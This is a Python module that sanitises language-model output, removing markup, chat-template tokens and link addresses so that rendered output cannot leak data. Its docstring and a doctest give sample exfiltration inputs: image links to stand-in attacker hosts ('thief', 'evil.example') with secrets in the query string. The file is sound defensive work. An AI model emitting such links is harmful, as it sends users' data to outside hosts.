"""What a model wrote, as words only: no link, image, HTML or template token of its own. Opens nothing.

A link is a way out for data: an image at "https://thief/?q=…" sends what stands in its address as soon as it is drawn.
"""

import html
import re
from collections.abc import Collection
from urllib.parse import urlsplit

from core.ingest.characters import clean

REMOVED = "[…]"  # stands where an address stood that had no words of its own
MOST_PASSES = 20  # what is left over can make up new markup; each pass takes at least one sign away

_ENTITY = re.compile(r"&(?:lt|gt|amp|quot|apos|colon|tab|newline|#0*\d{1,7}|#x0*[0-9a-f]{1,6});?", re.IGNORECASE)
_TOKEN = re.compile(
    r"<\|[^|<>\n]{1,40}\|>|\[/?INST\]|<</?SYS>>|<(?:start|end)_of_turn>|</?s>|\[(?:BOS|EOS|PAD)\]", re.IGNORECASE
)
_UNSEEN = re.compile(
    r"<!--.*?(?:-->|$)|<(script|style|iframe|template|noscript)\b.*?(?:</\1\s*>|$)", re.IGNORECASE | re.DOTALL
)
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]{1,31}:|www\.)[^<>\n]*)>", re.IGNORECASE)
_TAG = re.compile(r"</?[a-z!?][^<>]*>", re.IGNORECASE)
_OPEN_TAG = re.compile(r"<(?=[a-z/!?])", re.IGNORECASE)
_DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:[^\n]*(?:\n|$)", re.MULTILINE)
_TARGET = r"\(\s*(?P<target><[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))*)(?:\s+[^()]*)?\s*\)"
_IMAGE = re.compile(rf"!\[(?P<text>[^\[\]]*)\](?:{_TARGET}|\[[^\[\]]*\])")
_LINK = re.compile(rf"(?<!!)\[(?P<text>[^\[\]]*)\](?:{_TARGET}|\[[^\[\]]*\])")
_ADDRESS = re.compile(
    r"\b(?:[a-z][a-z0-9+.-]{1,31}:(?://|\\\\|/\\|\\/)|www\.(?=\w)|(?:javascript|vbscript|mailto|file|blob|tel|sms):(?=\S)"
    r"|data:(?=[a-z]+/|,|;)|https?:(?=\S))[^\s<>\"`)\]}]*[^\s<>\"`)\]}.,;:!?']?"
    r"|(?<![\w:/])//(?=[\w-]+\.\w)[^\s<>\"`)\]}]*",
    re.IGNORECASE,
)


def plain(model_output: str, allowed_hosts: Collection[str] = ()) -> str:
    """Words of a model without markup that acts; a link keeps its text, its address only on an allowed host.

    allowed_hosts: names as they stand in https addresses, whole ("help.example.com"); small letters
    returns: the same when applied twice

    >>> plain("See [our page](http://evil.example) <b>now</b> ![](https://evil.example/?q=secret)")
    'See our page now'
    >>> plain("[Returns](https://help.example.com/r)", allowed_hosts={"help.example.com"})
    'Returns (https://help.example.com/r)'
    """
    text = clean(model_output)
    for _ in range(MOST_PASSES):
        if (kept := _once(text, allowed_hosts)) == text:
            break
        text = kept
    else:
        text = re.sub(r"[<>\[\]()&]", " ", text)  # still changing: somebody's puzzle, not an answer
    return re.sub(r"[ \t]+(?=\n|$)", "", re.sub(r"(?<=\S)[ \t]{2,}", " ", text)).strip()


def _once(text: str, allowed: Collection[str]) -> str:
    text = _ENTITY.sub(lambda found: _character(found[0]), text)
    text = _UNSEEN.sub("", _TOKEN.sub("", text))
    text = _IMAGE.sub(lambda found: found["text"], text)
    text = _LINK.sub(lambda found: _link(found["text"], found["target"] or "", allowed), text)
    text = _AUTOLINK.sub(lambda found: found[1], _DEFINITION.sub("", text))
    text = _OPEN_TAG.sub("< ", _TAG.sub("", text))
    return _ADDRESS.sub(lambda found: found[0] if _is_allowed(found[0], allowed) else REMOVED, text)


def _link(words: str, target: str, allowed: Collection[str]) -> str:
    address = target.strip("<>")
    return f"{words} ({address})" if address != words and _is_allowed(address, allowed) else words


def _is_allowed(address: str, allowed: Collection[str]) -> bool:
    """Only a plain https address on a named host: no user before the host, no port, no backslash that browsers turn."""
    if not allowed or not re.fullmatch(r"https://[!-\[\]-~]+", address):
        return False
    try:
        parts = urlsplit(address)
        return parts.netloc.lower() in allowed
    except ValueError:
        return False


def _character(entity: str) -> str:
    """An entity as the character it stands for; one that stands for nothing visible goes."""
    return clean(html.unescape(entity if entity.endswith(";") else f"{entity};"))
